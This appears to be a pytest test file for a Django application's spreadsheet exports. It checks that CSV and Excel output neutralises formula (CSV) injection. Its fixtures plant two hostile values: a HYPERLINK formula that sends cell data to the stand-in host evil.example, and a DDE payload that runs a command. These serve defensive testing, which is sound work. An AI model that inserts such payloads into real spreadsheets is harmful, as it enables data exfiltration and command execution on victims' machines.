"""Every spreadsheet export neutralises text a spreadsheet program would run as a formula (OWASP
"CSV Injection"): CSV cells get a leading quote, Excel cells are text, never formulas."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from grappe.core.exports import XLSX_TYPE, csv_lines, neutralise, xlsx_response
from grappe.review.models import Review
from tests.review.conftest import pool, proposals, review_call  # noqa: F401 - fixtures
from tests.selection.conftest import reviewed  # noqa: F401 - fixtures

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMENT = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain title", "Plain title"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_lines_quote_every_field():
    text = "".join(csv_lines([["=1+1", 3, None, 'say "hi"']]))

    assert text == '\ufeff"\'=1+1","3","","say ""hi"""\r\n'


@pytest.fixture
def hostile(review_call, reviewed):  # noqa: F811 - fixtures
    proposal = reviewed[0]
    proposal.title = TITLE
    proposal.save()
    Review.objects.filter(assignment__proposal=proposal).update(applicant_comment=COMMENT)
    return proposal


def _xlsx_cells(response, value):
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == value]


def test_proposals_csv_neutralises_formulas(as_persona, review_call, hostile):  # noqa: F811 - fixtures
    response = as_persona("office").get(reverse("submissions:export_csv", args=[review_call.code]))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    titles = [row[2] for row in rows if row[0] == hostile.code]
    assert titles == ["'" + TITLE]


@pytest.mark.parametrize(
    ("url_name", "value"),
    [
        ("submissions:export_xlsx", TITLE),
        ("review:export_reviews", TITLE),
        ("review:export_reviews", COMMENT),
        ("selection:export", TITLE),
        ("selection:export", COMMENT),
    ],
)
def test_excel_exports_write_formulas_as_text(as_persona, review_call, hostile, url_name, value):  # noqa: F811 - fixtures
    response = as_persona("office").get(reverse(url_name, args=[review_call.code]))

    cells = _xlsx_cells(response, value)

    assert cells, "the hostile text is exported"
    assert {(cell.data_type, cell.quotePrefix) for cell in cells} == {("s", True)}


def test_every_spreadsheet_is_written_through_core_exports():
    root = Path(__file__).resolve().parents[2] / "grappe"
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        relative = path.relative_to(root).as_posix()
        if relative in {"core/exports.py", "engine/io.py"}:  # engine files: codes and numbers, read back as data
            continue
        if "csv.writer" in text or "WriteOnlyCell" in text:
            offenders.append(relative)
        if "openpyxl import Workbook" in text and "grappe.core.exports import" not in text:
            offenders.append(relative)

    assert offenders == []


@pytest.mark.parametrize("workbook", [b"PK\x03\x04 bytes", io.BytesIO(b"PK\x03\x04 a file")])
def test_xlsx_response_sends_a_named_excel_download(workbook):
    response = xlsx_response(workbook, "ranking-C1.xlsx")

    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="ranking-C1.xlsx"'
    assert b"".join(response.streaming_content).startswith(b"PK\x03\x04")


def test_every_excel_download_goes_through_xlsx_response():
    root = Path(__file__).resolve().parents[2] / "grappe"
    offenders = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "spreadsheetml" in path.read_text(encoding="utf-8") and path != root / "core" / "exports.py"
    ]

    assert offenders == []
